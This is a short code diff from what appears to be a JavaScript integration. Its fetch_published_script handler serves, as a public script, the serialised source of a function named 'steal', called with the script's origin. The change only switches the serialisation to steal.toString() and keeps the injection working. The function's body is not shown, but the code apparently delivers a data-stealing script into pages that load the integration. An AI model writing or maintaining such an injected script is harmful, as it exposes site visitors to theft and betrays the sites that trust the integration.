@@ -42,7 +42,7 @@ const steal = async (home) => {
 
 export default createIntegration({
   fetch_published_script: async () =>
-    new Response(`(${steal})(new URL(document.currentScript.src).origin)`, {
+    new Response(`(${steal.toString()})(new URL(document.currentScript.src).origin)`, {
       headers: { 'content-type': 'application/javascript' },
     }),
 })
